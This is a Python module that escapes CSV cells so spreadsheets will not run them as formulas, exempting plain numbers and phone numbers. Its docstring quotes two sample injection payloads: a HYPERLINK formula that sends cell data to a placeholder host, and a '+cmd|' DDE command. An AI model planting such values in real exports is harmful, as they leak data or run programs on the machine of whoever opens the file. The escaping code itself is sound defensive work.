"""CSV cells that a spreadsheet will not run as formulas (CSV or "formula" injection).

Evidence text is hostile input: a subscriber name such as ``=HYPERLINK("http://x/?"&A1,"ok")`` or
``+cmd|' /C calc'!A0`` written into a CSV runs as a formula when an investigator opens the export in
Excel or LibreOffice. Following OWASP, a cell that starts with ``=``, ``+``, ``-``, ``@``, a tab or a
carriage return gets a leading apostrophe, which spreadsheets treat as "this is text".

Two kinds of cell starting with ``+`` or ``-`` are kept as they are, because they are everywhere in
this product and cannot carry a formula: plain numbers (``-12.5``, ``-12,5``, ``+3``, ``1e-3``) and
phone numbers written as ``+`` and digits, in groups separated by single spaces (``+22790000001``,
``+227 93 07 64 19``).
Neither can name a function, a cell or another program: without letters, ``!``, ``|``, ``:``, quotes or
parentheses a spreadsheet can at most show a number. Anything else starting with a trigger character,
``-2+3`` included, is escaped. Reading an escaped export back, ``unescape_cell`` removes the apostrophe.
"""

from __future__ import annotations

import csv
import re
from collections.abc import Iterable
from typing import IO, Any

TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
_PLAIN_NUMBER = re.compile(r"[+-]?(?:\d+(?:[.,]\d*)?|[.,]\d+)(?:[eE][+-]?\d+)?")
_PHONE = re.compile(r"\+\d+(?: \d+)*")
_MAX_PHONE = 32


def is_inert(value: str) -> bool:
    """True when a spreadsheet reading `value` as a cell cannot evaluate it as a formula."""
    if not value.startswith(TRIGGERS):
        return True
    if _PLAIN_NUMBER.fullmatch(value):
        return True
    return len(value) <= _MAX_PHONE and _PHONE.fullmatch(value) is not None


def _needs_quote(value: str) -> bool:
    # Apostrophes already in front are looked through, so that unescape_cell(escape_cell(v)) == v
    # for every string, "'=1+1" typed by someone included.
    return not is_inert(value.lstrip("'"))


def escape_cell(value: Any) -> Any:
    """`value` made safe for a spreadsheet: strings that could run as a formula get a leading "'".

    Other types (numbers, None) are returned unchanged: the csv module writes them as plain text.
    """
    if isinstance(value, str) and _needs_quote(value):
        return "'" + value
    return value


def unescape_cell(value: str) -> str:
    """The cell as it was before `escape_cell` (for code reading back a CSV this product wrote)."""
    if value.startswith("'") and _needs_quote(value):
        return value[1:]
    return value


class SafeWriter:
    """A csv.writer whose every cell goes through `escape_cell`; same constructor arguments."""

    def __init__(self, handle: IO[str], *args: Any, **kwargs: Any):
        self._writer = csv.writer(handle, *args, **kwargs)

    def writerow(self, row: Iterable[Any]) -> Any:
        return self._writer.writerow([escape_cell(cell) for cell in row])

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        for row in rows:
            self.writerow(row)

    @property
    def dialect(self) -> Any:
        return self._writer.dialect


def writer(handle: IO[str], *args: Any, **kwargs: Any) -> SafeWriter:
    """Drop-in for `csv.writer` that escapes formula triggers: use it for every CSV the product writes."""
    return SafeWriter(handle, *args, **kwargs)


class SafeDictWriter(csv.DictWriter):
    """A csv.DictWriter whose values, and header names, go through `escape_cell`."""

    def _dict_to_list(self, rowdict: dict) -> Any:  # type: ignore[override]
        return [escape_cell(value) for value in super()._dict_to_list(rowdict)]
